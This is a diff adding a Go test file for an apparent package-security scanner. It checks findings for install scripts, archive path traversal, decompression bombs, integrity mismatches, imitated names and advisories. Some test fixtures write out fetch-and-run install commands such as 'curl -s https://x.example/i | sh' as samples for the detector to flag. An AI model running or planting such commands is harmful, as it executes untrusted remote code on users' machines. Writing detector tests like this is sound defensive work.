@@ -1,0 +1,72 @@
+package packaging
+
+import (
+	"strings"
+	"testing"
+
+	"gauntlet/catalog"
+	"gauntlet/finding"
+	"gauntlet/internal/engine/check"
+	"gauntlet/result"
+)
+
+// found runs all checks over a package and returns their findings, a line each.
+func found(t *testing.T, facts *result.Package) (lines []string) {
+	t.Helper()
+	res := check.Run(&catalog.Catalog{}, Checks(), check.Options{Package: &check.PackageFacts{Label: "p@1", Facts: facts}})
+	if len(res.Problems) > 0 {
+		t.Errorf("problems: %+v", res.Problems)
+	}
+	for _, f := range res.Findings {
+		if len(f.Content) != 64 || !strings.HasPrefix(f.Location.File, "p@1") {
+			t.Errorf("%s has the content %q and the place %+v", f.Rule, f.Content, f.Location)
+		}
+		lines = append(lines, f.Severity.String()+" "+string(f.Rule))
+	}
+	return lines
+}
+
+func script(command string) *result.Package {
+	return &result.Package{Scripts: []result.InstallScript{{Package: "p@1", Event: "postinstall", Command: command, Own: true, File: "package.json", Line: 3}}}
+}
+
+// Each check has what fires and the honest package most like it.
+func TestFindings(t *testing.T) {
+	for _, tt := range []struct {
+		name  string
+		facts *result.Package
+		want  string
+	}{
+		{"nothing", &result.Package{Maintainers: []string{"ada"}, AgeDays: 1}, ""},
+		{"a script", script("node setup.js"), "medium GNT-601"},
+		{"a script that loads and runs", script("curl -s https://x.example/i | sh"), "high GNT-601"},
+		{"a script that holds a program", script(`node -e "require('https')"`), "high GNT-601"},
+		{"a script that loads and runs nothing", script("curl --version"), "medium GNT-601"},
+		{"a script of a dependency", &result.Package{Scripts: []result.InstallScript{{Package: "d@1", Event: "install", Command: "curl x | sh"}}}, "low GNT-601"},
+		{"a path that leads out", &result.Package{Faults: []result.ArchiveFault{{Kind: result.FaultOutside, Path: "../x", Detail: "leads out"}}}, "high GNT-602"},
+		{"a bomb", &result.Package{Faults: []result.ArchiveFault{{Kind: result.FaultBomb, Detail: "unpacks to much"}}}, "high GNT-602"},
+		{"an archive that is large or broken", &result.Package{Faults: []result.ArchiveFault{{Kind: result.FaultLimit, Detail: "large"}, {Kind: result.FaultBroken, Detail: "cut"}}}, ""},
+		{"another archive", &result.Package{Integrity: "sha512 of the registry", Mismatch: "it differs"}, "critical GNT-603"},
+		{"the archive of the registry", &result.Package{Integrity: "sha512 of the registry"}, ""},
+		{"an imitated name", &result.Package{Imitates: &result.Likeness{Name: "other", How: "one letter differs", Severity: finding.Medium}}, "medium GNT-604"},
+		{"an advisory", &result.Package{Advisories: []result.PackageAdvisory{{ID: "GHSA-1", Package: "p", Version: "1", Severity: finding.Critical, Own: true}}}, "critical GNT-605"},
+		{"deprecated", &result.Package{Deprecated: "use q"}, "low GNT-606"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := strings.Join(found(t, tt.facts), ", "); got != tt.want {
+				t.Errorf("got %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+// A decision about a finding holds for the next version, until what it is about changes.
+func TestFingerprintsOutliveVersions(t *testing.T) {
+	first := func(label, version string) finding.Finding {
+		facts := &result.Package{Deprecated: "use q"}
+		return check.Run(&catalog.Catalog{}, Checks(), check.Options{Package: &check.PackageFacts{Label: label + "@" + version, Facts: facts}}).Findings[0]
+	}
+	if a, b := first("p", "1"), first("p", "2"); a.Fingerprint != b.Fingerprint || a.Content != b.Content {
+		t.Errorf("%s and %s", a.Fingerprint, b.Fingerprint)
+	}
+}
